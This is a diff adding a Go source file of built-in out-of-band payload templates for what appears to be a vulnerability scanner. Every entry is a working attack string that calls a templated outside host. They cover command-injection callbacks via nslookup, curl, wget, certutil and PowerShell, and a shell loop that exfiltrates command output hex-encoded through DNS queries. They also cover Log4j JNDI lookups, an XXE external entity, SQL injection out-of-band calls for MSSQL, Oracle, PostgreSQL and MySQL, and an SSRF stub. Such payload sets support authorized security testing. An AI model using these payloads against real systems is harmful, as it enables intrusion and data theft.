@@ -0,0 +1,36 @@
+package payloads
+
+import "github.com/zan8in/oobadapter/pkg/oobadapter"
+
+var builtins = []Template{
+	// command injection
+	{Name: "dns-nslookup", Protocol: oobadapter.OOBDNS, Text: `nslookup {{.DNS}}`},
+	{Name: "dns-ping", Protocol: oobadapter.OOBDNS, OS: OSLinux, Text: `ping -c 1 {{.DNS}}`},
+	{Name: "dns-ping", Protocol: oobadapter.OOBDNS, OS: OSWindows, Text: `ping -n 1 {{.DNS}}`},
+	{Name: "http-get", Protocol: oobadapter.OOBHTTP, OS: OSLinux, Text: `curl -s {{.HTTP}}`},
+	{Name: "http-get", Protocol: oobadapter.OOBHTTP, OS: OSWindows, Shell: ShellCmd, Text: `certutil -urlcache -split -f {{.HTTP}}`},
+	{Name: "http-get", Protocol: oobadapter.OOBHTTP, OS: OSWindows, Shell: ShellPowershell, Text: `Invoke-WebRequest -UseBasicParsing {{.HTTP}}`},
+	{Name: "http-wget", Protocol: oobadapter.OOBHTTP, OS: OSLinux, Text: `wget -q -O- {{.HTTP}}`},
+	// chunks of hex, one label per query, as read by oobadapter.ReassembleExfil with ExfilHex
+	{Name: "dns-exfil-hex", Protocol: oobadapter.OOBDNS, OS: OSLinux, Requires: []string{"Command"},
+		Text: `i=0;for c in $({{.Command}}|od -An -tx1|tr -d ' \n'|fold -w60);do nslookup $c.$i.{{.DNS}};i=$((i+1));done`},
+
+	// jndi
+	{Name: "log4j-jndi-dns", Protocol: oobadapter.OOBDNS, Text: `${jndi:ldap://{{.DNS}}/a}`},
+	{Name: "log4j-jndi-ldap", Protocol: oobadapter.OOBLDAP, Requires: []string{"LDAP"}, Text: `${jndi:{{.LDAP}}}`},
+	{Name: "log4j-jndi-rmi", Protocol: oobadapter.OOBRMI, Requires: []string{"RMI"}, Text: `${jndi:{{.RMI}}}`},
+
+	// xxe
+	{Name: "xxe-external-entity", Protocol: oobadapter.OOBHTTP,
+		Text: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "{{.HTTP}}"> %x;]><r/>`},
+
+	// sql injection
+	{Name: "mssql-xp-dirtree", Protocol: oobadapter.OOBDNS, Text: `EXEC master..xp_dirtree '\\{{.DNS}}\a';`},
+	{Name: "oracle-utl-http", Protocol: oobadapter.OOBHTTP, Text: `SELECT UTL_HTTP.REQUEST('{{.HTTP}}') FROM dual`},
+	{Name: "oracle-utl-inaddr", Protocol: oobadapter.OOBDNS, Text: `SELECT UTL_INADDR.GET_HOST_ADDRESS('{{.DNS}}') FROM dual`},
+	{Name: "postgres-copy-program", Protocol: oobadapter.OOBDNS, Text: `COPY (SELECT '') TO PROGRAM 'nslookup {{.DNS}}'`},
+	{Name: "mysql-load-file", Protocol: oobadapter.OOBDNS, OS: OSWindows, Text: `SELECT LOAD_FILE('\\\\{{.DNS}}\\a')`},
+
+	// ssrf
+	{Name: "ssrf-url", Protocol: oobadapter.OOBHTTP, Text: `{{.HTTP}}`},
+}